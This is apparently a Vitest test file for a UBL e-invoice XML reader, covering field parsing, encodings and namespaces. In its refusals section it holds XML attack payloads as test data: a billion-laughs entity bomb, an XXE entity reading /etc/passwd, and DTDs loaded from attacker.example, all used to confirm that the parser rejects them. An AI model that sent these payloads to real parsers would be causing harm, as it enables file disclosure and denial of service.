import { describe, expect, it } from "vitest";
import { buildSamplePdf } from "@/lib/documents/sample-pdf";
import { MAX_DOCUMENT_BYTES } from "@/lib/documents/sniff";
import { MAX_UBL_DEPTH, MAX_UBL_NODES, MAX_UBL_TEXT, readUbl } from "@/lib/ubl/read";
import type { UblDocument } from "@/lib/ubl/types";
import { ublBytes, ublFixture, ublInvoiceXml } from "../../../helpers/ubl";

const encoder = new TextEncoder();
const utf8 = (text: string) => encoder.encode(text);

const INVOICE_NS = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2";
const CAC_NS = "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2";
const CBC_NS = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2";

/** A minimal Invoice around `body`, with the usual cac/cbc prefixes. */
const invoiceWith = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="${INVOICE_NS}" xmlns:cac="${CAC_NS}" xmlns:cbc="${CBC_NS}">${body}</Invoice>`;

function read(content: Uint8Array): UblDocument {
  const result = readUbl(content);
  if (!result.ok) throw new Error(`refused: ${result.reason}`);
  return result.document;
}

const refusalOf = (content: Uint8Array) => {
  const result = readUbl(content);
  return result.ok ? "read" : result.reason;
};

describe("readUbl on the samples", () => {
  it("reads every field of a Peppol purchase invoice with three VAT categories", () => {
    expect(read(ublFixture("purchase-invoice.xml"))).toEqual({
      kind: "Invoice",
      number: "F2026/00187",
      issueDate: "2026-03-14",
      dueDate: "2026-04-13",
      currency: "EUR",
      payableAmount: 1870.9,
      payableAmountText: "1870.90",
      vatTotal: 270.9,
      taxSubtotals: [
        { category: "S", percent: 21, taxableAmount: 1200, taxAmount: 252 },
        { category: "S", percent: 6, taxableAmount: 315, taxAmount: 18.9 },
        { category: "E", percent: 0, taxableAmount: 85, taxAmount: 0 },
      ],
      supplier: {
        name: "Bouwmaterialen Claes NV",
        vatNumber: "BE0477472701",
        identifiers: [
          { value: "0477472701", scheme: "0208" },
          { value: "0477472701", scheme: "0208" },
          { value: "BE0477472701", scheme: null },
          { value: "0477472701", scheme: "0208" },
        ],
      },
      customer: {
        name: "Studio Lemaire BV",
        vatNumber: "BE0123456749",
        identifiers: [
          { value: "0123456749", scheme: "0208" },
          { value: "BE0123456749", scheme: null },
          { value: "0123456749", scheme: "0208" },
        ],
      },
      lines: [
        { description: "Vloertegels 60x60 antraciet", quantity: 48, unitCode: "MTK", amount: 1200 },
        {
          description: "Plaatsing (renovatie woning ouder dan 10 jaar)",
          quantity: 10.5,
          unitCode: "HUR",
          amount: 315,
        },
        { description: "Opleiding veilig werken", quantity: 1, unitCode: "C62", amount: 85 },
      ],
      embeddedPdf: null,
    });
  });

  it("reads a credit note with other prefixes, its due date from PaymentMeans and the VAT in the document currency", () => {
    expect(read(ublFixture("credit-note.xml"))).toEqual({
      kind: "CreditNote",
      number: "CN-2026-0009",
      issueDate: "2026-05-02",
      dueDate: "2026-06-01",
      currency: "USD",
      payableAmount: 121,
      payableAmountText: "121.00",
      // The first TaxTotal is in EUR (the accounting currency): not this one.
      vatTotal: 21,
      taxSubtotals: [{ category: "S", percent: 21, taxableAmount: 100, taxAmount: 21 }],
      supplier: {
        name: "Software Partners SA",
        vatNumber: "BE0812345603",
        identifiers: [
          { value: "BE0812345603", scheme: "9925" },
          { value: "BE 0812.345.603", scheme: null },
        ],
      },
      customer: {
        name: "Studio Lemaire BV",
        vatNumber: null,
        identifiers: [{ value: "BE0123456749", scheme: "9925" }],
      },
      lines: [{ description: "Licence refund & credit (\u2013 2 months)", quantity: 2, unitCode: "MON", amount: 100 }],
      embeddedPdf: null,
    });
  });

  it("keeps an Invoice with a negative total an Invoice with a negative amount", () => {
    const document = read(ublFixture("negative-invoice.xml"));
    expect(document).toMatchObject({
      kind: "Invoice",
      number: "F2026/00201",
      issueDate: "2026-04-01",
      dueDate: null,
      payableAmount: -242,
      payableAmountText: "-242.00",
      vatTotal: -42,
      taxSubtotals: [{ category: "S", percent: 21, taxableAmount: -200, taxAmount: -42 }],
      supplier: { name: "Bouwmaterialen Claes NV", vatNumber: "BE0477472701" },
      customer: { name: "Studio Lemaire BV", vatNumber: null },
      lines: [{ description: "Retour vloertegels 60x60", quantity: -8, unitCode: "MTK", amount: -200 }],
    });
  });

  it("extracts the first attachment that really is a PDF, with its file name", () => {
    const document = read(ublFixture("embedded-pdf.xml"));
    const expected = buildSamplePdf({
      title: "Factuur F2026/00190",
      supplierName: "Bouwmaterialen Claes NV",
      invoiceNumber: "F2026/00190",
      invoiceDate: "2026-03-20",
      totalAmount: 121,
      currency: "EUR",
    });
    expect(document.embeddedPdf?.fileName).toBe("F2026-00190.pdf");
    expect(document.embeddedPdf?.content).toEqual(new Uint8Array(expected));
    expect(document).toMatchObject({ number: "F2026/00190", payableAmount: 121, vatTotal: 21 });
  });

  it("reads elements whose namespaces are default namespace declarations, without any prefix", () => {
    expect(read(ublFixture("default-namespace.xml"))).toEqual({
      kind: "Invoice",
      number: "2026-77",
      issueDate: "2026-02-28",
      dueDate: null,
      currency: "EUR",
      payableAmount: 53,
      payableAmountText: "53.00",
      vatTotal: null,
      taxSubtotals: [],
      supplier: {
        name: "Boulangerie Dubois",
        vatNumber: "BE0765432146",
        identifiers: [{ value: "BE0765432146", scheme: null }],
      },
      customer: { name: "Studio Lemaire", vatNumber: null, identifiers: [{ value: "123456749", scheme: null }] },
      lines: [{ description: "Broodjes voor de receptie", quantity: null, unitCode: null, amount: 50 }],
      embeddedPdf: null,
    });
  });

  it("decodes UTF-16 (both byte orders) and UTF-8 with a byte order mark", () => {
    const little = ublFixture("sales-invoice-utf16le.xml");
    expect([little[0], little[1]]).toEqual([0xff, 0xfe]);
    const document = read(little);
    expect(document).toMatchObject({
      number: "VF-2026-003",
      dueDate: "2026-03-02",
      payableAmount: 907.5,
      supplier: { name: "Studio Lemaire BV", vatNumber: "BE0123456749" },
      customer: { name: "Boulangerie Dubois \u2013 Li\u00e8ge SRL", vatNumber: "BE0765432146" },
      lines: [
        { description: "Conception graphique \u2013 \u00e9tiquettes \u00ab P\u00e2tisserie \u00bb", amount: 750 },
      ],
    });

    const big = new Uint8Array(little.length);
    for (let i = 0; i < little.length; i += 2) {
      big[i] = little[i + 1] as number;
      big[i + 1] = little[i] as number;
    }
    expect(read(big)).toEqual(document);

    const text = ublInvoiceXml({ number: "BOM-1" });
    const withBom = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(text)]);
    expect(read(withBom).number).toBe("BOM-1");
  });

  it("reads what the test builder writes (the helper other tests use)", () => {
    const document = read(
      ublBytes({
        kind: "CreditNote",
        number: "CN-1 <&>",
        dueDate: "2026-05-31",
        lines: [
          { description: "A", amount: "100.00" },
          { description: "B", amount: "50.00", percent: "6" },
          { description: "C", amount: "10.00", category: "E" },
        ],
        embeddedPdf: { content: buildSamplePdf({ title: "x" }), fileName: "cn-1.pdf" },
      }),
    );
    expect(document).toMatchObject({
      kind: "CreditNote",
      number: "CN-1 <&>",
      dueDate: "2026-05-31",
      payableAmount: 184,
      payableAmountText: "184.00",
      vatTotal: 24,
      taxSubtotals: [
        { category: "S", percent: 21, taxableAmount: 100, taxAmount: 21 },
        { category: "S", percent: 6, taxableAmount: 50, taxAmount: 3 },
        { category: "E", percent: 0, taxableAmount: 10, taxAmount: 0 },
      ],
      supplier: { name: "Drukkerij Peeters BV", vatNumber: "BE0202239951" },
      customer: { name: "Studio Lemaire BV", vatNumber: "BE0123456749" },
      embeddedPdf: { fileName: "cn-1.pdf", content: buildSamplePdf({ title: "x" }) },
    });
    expect(document.lines.map((line) => line.description)).toEqual(["A", "B", "C"]);
  });
});

describe("readUbl field rules", () => {
  it("takes only real calendar dates", () => {
    const dates = (issue: string) => read(utf8(invoiceWith(`<cbc:IssueDate>${issue}</cbc:IssueDate>`))).issueDate;
    expect(dates("2028-02-29")).toBe("2028-02-29");
    expect(dates("2026-02-29")).toBeNull();
    expect(dates("2026-13-01")).toBeNull();
    expect(dates("14/03/2026")).toBeNull();
    expect(dates("2026-03-14+01:00")).toBe("2026-03-14");
    expect(dates(" 2026-03-14 ")).toBe("2026-03-14");
  });

  it("takes only decimals as amounts, and the currency from the amount when the document has none", () => {
    const payable = (text: string) =>
      read(
        utf8(
          invoiceWith(
            `<cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="gbp">${text}</cbc:PayableAmount></cac:LegalMonetaryTotal>`,
          ),
        ),
      );
    expect(payable("12.5")).toMatchObject({ payableAmount: 12.5, payableAmountText: "12.5", currency: "GBP" });
    expect(payable(" +7 ")).toMatchObject({ payableAmount: 7, payableAmountText: "+7" });
    expect(payable("1.234,56")).toMatchObject({ payableAmount: null, payableAmountText: null });
    expect(payable("1e6")).toMatchObject({ payableAmount: null, payableAmountText: null });
    expect(payable("")).toMatchObject({ payableAmount: null, payableAmountText: null });
  });

  it("trims, collapses and bounds text values", () => {
    const long = "x".repeat(MAX_UBL_TEXT + 50);
    expect(read(utf8(invoiceWith(`<cbc:ID>  a \n  b  </cbc:ID>`))).number).toBe("a b");
    expect(read(utf8(invoiceWith(`<cbc:ID>${long}</cbc:ID>`))).number).toBe("x".repeat(MAX_UBL_TEXT));
    expect(read(utf8(invoiceWith(`<cbc:ID>   </cbc:ID>`))).number).toBeNull();
  });

  it("decodes the predefined entities and numeric references, in text and attributes", () => {
    const document = read(
      utf8(
        invoiceWith(
          `<cbc:ID>A&amp;B &lt;1&gt; &quot;q&quot; &apos;s&apos; &#233;&#x20AC;</cbc:ID><cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="&#69;UR">1</cbc:PayableAmount></cac:LegalMonetaryTotal>`,
        ),
      ),
    );
    expect(document.number).toBe(`A&B <1> "q" 's' \u00e9\u20ac`);
    expect(document.currency).toBe("EUR");
  });

  it("skips comments and processing instructions wherever XML allows them", () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="invoice.xsl"?>
<!---->
<Invoice xmlns="${INVOICE_NS}" xmlns:cbc="${CBC_NS}"><!-- a - b --><?koppel note?><cbc:ID>A<!-- x -->B</cbc:ID></Invoice>
<!-- after the root -->
`;
    expect(read(utf8(xml)).number).toBe("AB");
  });

  it("resolves a prefix declared on any ancestor, and lets a nearer declaration shadow it", () => {
    const xml = `<i:Invoice xmlns:i="${INVOICE_NS}" xmlns:c="${CAC_NS}" xmlns:b="urn:example:not-cbc">
  <c:LegalMonetaryTotal xmlns:b="${CBC_NS}"><b:PayableAmount currencyID="EUR">10.00</b:PayableAmount></c:LegalMonetaryTotal>
  <b:ID>not the number: b is not cbc here</b:ID>
  <c:AccountingSupplierParty><c:Party><c:PartyName xmlns="${CBC_NS}"><Name>Deep Default</Name></c:PartyName></c:Party></c:AccountingSupplierParty>
</i:Invoice>`;
    expect(read(utf8(xml))).toMatchObject({
      number: null,
      payableAmount: 10,
      supplier: { name: "Deep Default" },
    });
  });

  it("reads a CDATA section as text, never as elements", () => {
    const document = read(
      utf8(
        invoiceWith(
          `<cbc:ID><![CDATA[A<B> & C]]></cbc:ID><cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="EUR"><![CDATA[<cbc:PayableAmount>1.00</cbc:PayableAmount>]]></cbc:PayableAmount></cac:LegalMonetaryTotal>`,
        ),
      ),
    );
    expect(document.number).toBe("A<B> & C");
    expect(document.payableAmount).toBeNull();
  });

  it("is not fooled by look-alike elements in comments or in other namespaces", () => {
    const document = read(
      utf8(
        invoiceWith(`
  <!-- <cbc:ID>FAKE-1</cbc:ID> -->
  <x:ID xmlns:x="urn:example:not-ubl">FAKE-2</x:ID>
  <cbc:ID>REAL-1</cbc:ID>
  <cac:LegalMonetaryTotal>
    <!-- <cbc:PayableAmount currencyID="EUR">1.00</cbc:PayableAmount> -->
    <cac:PayableAmount currencyID="EUR">2.00</cac:PayableAmount>
    <cbc:PayableAmount currencyID="EUR">121.00</cbc:PayableAmount>
  </cac:LegalMonetaryTotal>
  <!-- <cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="EUR">3.00</cbc:PayableAmount></cac:LegalMonetaryTotal> -->`),
      ),
    );
    expect(document.number).toBe("REAL-1");
    expect(document.payableAmount).toBe(121);
    expect(document.payableAmountText).toBe("121.00");
  });

  it("reads only the document's own TaxTotal, and the first one when the currency is unknown", () => {
    const totals = `<cac:TaxTotal><cbc:TaxAmount currencyID="EUR">9.00</cbc:TaxAmount></cac:TaxTotal><cac:TaxTotal><cbc:TaxAmount currencyID="USD">10.00</cbc:TaxAmount></cac:TaxTotal>`;
    expect(read(utf8(invoiceWith(`<cbc:DocumentCurrencyCode>USD</cbc:DocumentCurrencyCode>${totals}`))).vatTotal).toBe(
      10,
    );
    expect(read(utf8(invoiceWith(totals))).vatTotal).toBe(9);
    expect(read(utf8(invoiceWith(`<cbc:DocumentCurrencyCode>GBP</cbc:DocumentCurrencyCode>${totals}`))).vatTotal).toBe(
      null,
    );
  });

  it("ignores a PDF attachment whose base64 is not base64 or whose bytes are not a PDF", () => {
    const attachment = (mimeCode: string, base64: string) =>
      `<cac:AdditionalDocumentReference><cbc:ID>a</cbc:ID><cac:Attachment><cbc:EmbeddedDocumentBinaryObject mimeCode="${mimeCode}" filename="a.pdf">${base64}</cbc:EmbeddedDocumentBinaryObject></cac:Attachment></cac:AdditionalDocumentReference>`;
    const pdf = Buffer.from(buildSamplePdf({ title: "y" })).toString("base64");
    expect(read(utf8(invoiceWith(attachment("application/pdf", `${pdf}!`)))).embeddedPdf).toBeNull();
    expect(read(utf8(invoiceWith(attachment("image/png", pdf)))).embeddedPdf).toBeNull();
    expect(read(utf8(invoiceWith(attachment("application/pdf", "")))).embeddedPdf).toBeNull();
    expect(read(utf8(invoiceWith(attachment(" Application/PDF ", pdf)))).embeddedPdf?.fileName).toBe("a.pdf");
  });

  it("reads a 20 MB invoice whose embedded PDF fills it", () => {
    const pdf = new Uint8Array(15_300_000);
    pdf.set(utf8("%PDF-1.7\n"));
    pdf.fill(0x41, 9);
    const content = ublBytes({ embeddedPdf: pdf });
    expect(content.byteLength).toBeGreaterThan(20_000_000);
    expect(content.byteLength).toBeLessThanOrEqual(MAX_DOCUMENT_BYTES);
    const document = read(content);
    expect(document.embeddedPdf?.content.byteLength).toBe(pdf.byteLength);
    expect(document.embeddedPdf?.content.subarray(0, 12)).toEqual(pdf.subarray(0, 12));
    expect(document.payableAmount).toBe(121);
  });
});

describe("readUbl refusals", () => {
  it("refuses the billion laughs", () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Invoice xmlns="${INVOICE_NS}" xmlns:cbc="${CBC_NS}"><cbc:ID>&lol3;</cbc:ID></Invoice>`;
    expect(refusalOf(utf8(lol))).toBe("forbiddenDeclaration");
  });

  it("refuses an external entity and parameter entities", () => {
    const external = `<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="${INVOICE_NS}" xmlns:cbc="${CBC_NS}"><cbc:ID>&xxe;</cbc:ID></Invoice>`;
    const parameter = `<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<Invoice xmlns="${INVOICE_NS}"/>`;
    const publicDtd = `<!DOCTYPE Invoice PUBLIC "-//X//DTD//EN" "http://attacker.example/x.dtd"><Invoice xmlns="${INVOICE_NS}"/>`;
    const lowerCase = `<!doctype Invoice><Invoice xmlns="${INVOICE_NS}"/>`;
    // Hidden in a comment, still refused: a UBL file has no reason to spell one.
    const inComment = invoiceWith(`<!-- <!ENTITY x "y"> -->`);
    for (const xml of [external, parameter, publicDtd, lowerCase, inComment]) {
      expect(refusalOf(utf8(xml))).toBe("forbiddenDeclaration");
    }
    const utf16 = new Uint8Array([0xff, 0xfe, ...new Uint8Array(Buffer.from(external, "utf16le"))]);
    expect(refusalOf(utf16)).toBe("forbiddenDeclaration");
  });

  it("refuses references to entities that were never declared", () => {
    expect(refusalOf(utf8(invoiceWith(`<cbc:ID>&xxe;</cbc:ID>`)))).toBe("malformed");
    expect(refusalOf(utf8(invoiceWith(`<cbc:ID>AT&T</cbc:ID>`)))).toBe("malformed");
    expect(refusalOf(utf8(invoiceWith(`<cbc:ID>&#0;</cbc:ID>`)))).toBe("malformed");
    expect(refusalOf(utf8(invoiceWith(`<cbc:ID a="&nbsp;">1</cbc:ID>`)))).toBe("malformed");
  });

  it("refuses 50,000 nested elements as too deep, closed or not", () => {
    const depth = 50_000;
    const closed = `<Invoice xmlns="${INVOICE_NS}">${"<a>".repeat(depth)}${"</a>".repeat(depth)}</Invoice>`;
    const open = `<Invoice xmlns="${INVOICE_NS}">${"<a>".repeat(depth)}`;
    expect(refusalOf(utf8(closed))).toBe("tooDeep");
    expect(refusalOf(utf8(open))).toBe("tooDeep");
  });

  it("accepts nesting up to MAX_UBL_DEPTH and refuses one level more", () => {
    const nested = (levels: number) =>
      `<Invoice xmlns="${INVOICE_NS}">${"<a>".repeat(levels - 1)}${"</a>".repeat(levels - 1)}</Invoice>`;
    expect(MAX_UBL_DEPTH).toBe(64);
    expect(refusalOf(utf8(nested(MAX_UBL_DEPTH)))).toBe("read");
    expect(refusalOf(utf8(nested(MAX_UBL_DEPTH + 1)))).toBe("tooDeep");
  });

  it("refuses XML that is not well-formed", () => {
    const cases = [
      `<Invoice xmlns="${INVOICE_NS}"><cbc:ID xmlns:cbc="${CBC_NS}">1</cbc:ID>`,
      `<Invoice xmlns="${INVOICE_NS}"><a><b></a></b></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"></Invoice><Invoice xmlns="${INVOICE_NS}"></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"></Invoice>trailing text`,
      `<Invoice xmlns="${INVOICE_NS}" a="1" a="2"></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}" a="<"></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}" a=1></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"><cbc:ID>1</cbc:ID></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"><!-- a -- b --></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"><!-- a ---></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"><!-- unclosed </Invoice>`,
      ` <?xml version="1.0"?><Invoice xmlns="${INVOICE_NS}"/>`,
      `<Invoice xmlns="${INVOICE_NS}" xmlns:p=""><p:ID/></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"><a:b:c/></Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}"><![CDATA[x</Invoice>`,
      `<Invoice xmlns="${INVOICE_NS}">\u0001</Invoice>`,
      `<?xml version="1.0" encoding="ISO-8859-1"?><Invoice xmlns="${INVOICE_NS}"/>`,
      `<Invoice xmlns="${INVOICE_NS}"><?xml version="1.0"?></Invoice>`,
      `< Invoice xmlns="${INVOICE_NS}"/>`,
      ``,
      `just text`,
    ];
    for (const xml of cases) expect([xml, refusalOf(utf8(xml))]).toEqual([xml, "malformed"]);
    expect(refusalOf(new Uint8Array([0x3c, 0x49, 0xff, 0xfe, 0xfd]))).toBe("malformed");
  });

  it("refuses a root that is not a UBL Invoice or CreditNote", () => {
    const roots = [
      `<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>`,
      `<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-3"/>`,
      `<Invoice/>`,
      `<CreditNote xmlns="${INVOICE_NS}"/>`,
      `<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>`,
      `<html><body>Invoice</body></html>`,
    ];
    for (const xml of roots) expect([xml, refusalOf(utf8(xml))]).toEqual([xml, "malformed"]);
  });

  it("refuses more elements and attributes than MAX_UBL_NODES as too large, and takes exactly that many", () => {
    // The root and its xmlns attribute are two nodes.
    const flat = (nodes: number) => `<Invoice xmlns="${INVOICE_NS}">${"<a/>".repeat(nodes - 2)}</Invoice>`;
    expect(refusalOf(utf8(flat(MAX_UBL_NODES)))).toBe("read");
    expect(refusalOf(utf8(flat(MAX_UBL_NODES + 1)))).toBe("tooLarge");
    // 20 MB of empty elements: five million of them.
    expect(refusalOf(utf8(flat(5_000_000)))).toBe("tooLarge");
    const attributes = Array.from({ length: MAX_UBL_NODES }, (_, index) => ` a${index}="1"`).join("");
    expect(refusalOf(utf8(`<Invoice xmlns="${INVOICE_NS}"${attributes}/>`))).toBe("tooLarge");
  });

  it("refuses a duplicate attribute among many", () => {
    const attributes = Array.from({ length: 1000 }, (_, index) => ` a${index}="1"`).join("");
    expect(refusalOf(utf8(`<Invoice xmlns="${INVOICE_NS}"${attributes}/>`))).toBe("read");
    expect(refusalOf(utf8(`<Invoice xmlns="${INVOICE_NS}"${attributes} a500="2"/>`))).toBe("malformed");
  });

  it("refuses more than MAX_DOCUMENT_BYTES before reading a byte of it", () => {
    const content = new Uint8Array(MAX_DOCUMENT_BYTES + 1);
    content.set(utf8(invoiceWith("")));
    expect(refusalOf(content)).toBe("tooLarge");
  });
});
